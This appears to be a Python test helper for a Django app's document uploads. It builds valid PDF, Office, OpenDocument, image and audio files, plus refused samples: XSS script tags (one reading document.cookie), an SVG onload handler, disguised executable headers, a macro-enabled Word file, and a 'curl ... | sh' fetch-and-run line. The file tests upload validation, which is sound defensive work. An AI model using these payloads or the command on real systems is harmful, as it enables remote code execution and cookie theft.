"""Real files of each kind a source's document may be, and of kinds it must never be, in memory."""

import io
import wave
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.helpers.pictures import picture_bytes

_OOXML = "application/vnd.openxmlformats-officedocument"
MAIN_PARTS = {
    "docx": ("word/document.xml", f"{_OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OOXML}.presentationml.presentation.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
}


def pdf_bytes(text="The memo"):
    """A one-page PDF with its cross-reference table, as a PDF writer lays it out."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (5, xref))
    return out.getvalue()


def office_bytes(kind="docx"):
    """An Office Open XML package (Word, Excel, PowerPoint, or a macro-enabled one)."""
    part, content_type = MAIN_PARTS[kind]
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        f'Target="{part}"/></Relationships>'
    )
    return _zip(
        [("[Content_Types].xml", types), ("_rels/.rels", rels), (part, "<document/>")],
    )


def open_document_bytes(kind="text"):
    """An OpenDocument package: its ``mimetype`` member first and uncompressed."""
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    return _zip([("mimetype", mimetype), ("content.xml", "<office:document-content/>")])


def old_word_bytes():
    """The start of a Word 97-2003 file: the compound-file header, then Word's FIB magic."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    header = header.ljust(512, b"\x00")
    return header + b"\xec\xa5\xc1\x00" + b"\x00" * 1532


def wav_bytes():
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\x00\x01" * 800)
    return out.getvalue()


def zip_holding(name, text):
    return _zip([(name, text)])


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in members:
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, text, compress_type=method)
    return out.getvalue()


# name → (bytes, the extension it is stored under)
ACCEPTED_FILES = {
    "report.pdf": (pdf_bytes(), "pdf"),
    "letter.docx": (office_bytes("docx"), "docx"),
    "budget.xlsx": (office_bytes("xlsx"), "xlsx"),
    "slides.pptx": (office_bytes("pptx"), "pptx"),
    "minutes.odt": (open_document_bytes("text"), "odt"),
    "figures.ods": (open_document_bytes("spreadsheet"), "ods"),
    "talk.odp": (open_document_bytes("presentation"), "odp"),
    "old-letter.doc": (old_word_bytes(), "doc"),
    "scan.jpg": (picture_bytes("JPEG"), "jpg"),
    "chart.png": (picture_bytes("PNG"), "png"),
    "loop.gif": (picture_bytes("GIF"), "gif"),
    "photo.webp": (picture_bytes("WEBP"), "webp"),
    "notes.txt": ("Notes from the hearing: 3 < 4, café.\n".encode(), "txt"),
    "interview.wav": (wav_bytes(), "wav"),
    # A PNG named as a PDF is still a PNG.
    "renamed-picture.pdf": (picture_bytes("PNG"), "png"),
}
REFUSED_FILES = {
    "page.pdf": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    "page.html": b"<html><script>alert(1)</script></html>",
    "late-script.txt": b"Dear editor,\n\nsee below\n<script>alert(1)</script>\n",
    "drawing.pdf": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'
    ),
    "page.xhtml": (
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
        b"<script>alert(1)</script></html>"
    ),
    "data.xml": b'<?xml version="1.0"?><records><record/></records>',
    "program.pdf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200,
    "setup.doc": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200,
    "run.txt": b"#!/bin/sh\ncurl https://example.org | sh\n",
    "macros.docx": office_bytes("docm"),
    "archive.docx": zip_holding("index.html", "<html><script>alert(1)</script></html>"),
    "nul.txt": b"looks like text\x00but is not",
    "latin1.txt": "caf\xe9 cr\xe8me".encode("latin-1"),
}


PDF = b"%PDF-1.4 the memo"


def make_document_source(name="memo.pdf", content=PDF, **fields):
    """A source holding a document, uploaded as ``name`` with ``content``."""
    from stories.models import Source
    from tests.helpers.factories import make_source

    fields.setdefault("kind", Source.Kind.DOCUMENT)
    return make_source(document=SimpleUploadedFile(name, content), **fields)
